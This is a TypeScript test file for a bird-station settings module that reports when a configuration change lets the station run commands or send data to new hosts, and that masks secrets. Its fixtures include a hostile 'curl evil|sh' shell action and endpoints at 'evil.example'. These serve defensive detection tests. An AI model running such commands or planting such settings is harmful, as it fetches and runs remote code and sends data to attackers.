import { expect, test } from 'vitest'
import { changesOfPowers, powersOf } from '../../../src/domain/settings/powers.ts'

const powers = (path: string, from: unknown, to: unknown) =>
  powersOf(new Map([[path, { from, to }]])).map(({ kind, names, words }) => [kind, names.join(' · '), words])

const shell = { type: 'ExecuteCommand', command: '/bin/sh', parameters: ['-c', 'curl evil|sh'] }

test.each([
  [
    'a command for a bird',
    'realtime.species.config',
    null,
    { wren: { actions: [shell] } },
    [['runs', 'wren · actions · 1', '/bin/sh -c curl evil|sh']],
  ],
  [
    'a script, before an address',
    'notification.push.providers',
    [],
    [
      { name: 'a', type: 'webhook', endpoints: [{ url: 'https://evil.example/' }] },
      { name: 'b', type: 'script', command: '/bin/sh', args: ['x'] },
    ],
    [
      ['runs', 'b', '/bin/sh x'],
      ['sends', 'a · endpoints · 1 · url', 'https://evil.example/'],
    ],
  ],
  [
    'a script that is switched on',
    'notification.push.providers',
    [{ name: 'b', command: '/bin/sh', enabled: false }],
    [{ name: 'b', command: '/bin/sh', enabled: true }],
    [['runs', 'b', '/bin/sh']],
  ],
  ['what a program is run with', 'realtime.rtsp.ffmpegParameters', [], ['-f', 'x'], [['runs', '', '-f x']]],
  ['a library', 'birdnet.onnxRuntimePath', '', '/lib/x.so', [['runs', '', '/lib/x.so']]],
  ['a broker', 'realtime.mqtt.broker', 'a.lan', 'evil.example', [['sends', '', 'evil.example']]],
  [
    'a script of the station’s own that is changed, without its secrets',
    'notification.push.providers',
    [{ name: 'b', command: '/bin/own', args: ['T0KEN'], urls: ['ntfy://ntfy.example/T0PIC'], enabled: false }],
    [{ name: 'b', command: '/bin/own', args: ['T0KEN', '-v'], urls: ['ntfy://ntfy.example/T0PIC'], enabled: true }],
    [
      ['runs', 'b', '/bin/own ********** -v'],
      ['sends', 'b · urls · 1', 'ntfy://ntfy.example/**********'],
    ],
  ],
  [
    'what is there already',
    'realtime.species.config',
    { wren: { actions: [shell] } },
    { wren: { actions: [shell] } },
    [],
  ],
])('what a change lets the station do is told: %s', (_, path, from, to, expected) => {
  expect(powers(path, from, to)).toEqual(expected)
})

test('with an address that is not wanted the secret for it is left out, and no other', () => {
  const edits = new Map(
    ['realtime.mqtt.broker', 'realtime.mqtt.password', 'realtime.mqtt.topic', 'security.basicAuth.password'].map(
      (path) => [path, { from: 'a', to: 'b' }],
    ),
  )
  expect(changesOfPowers(edits, powersOf(edits))).toEqual(['realtime.mqtt.broker', 'realtime.mqtt.password'])
})
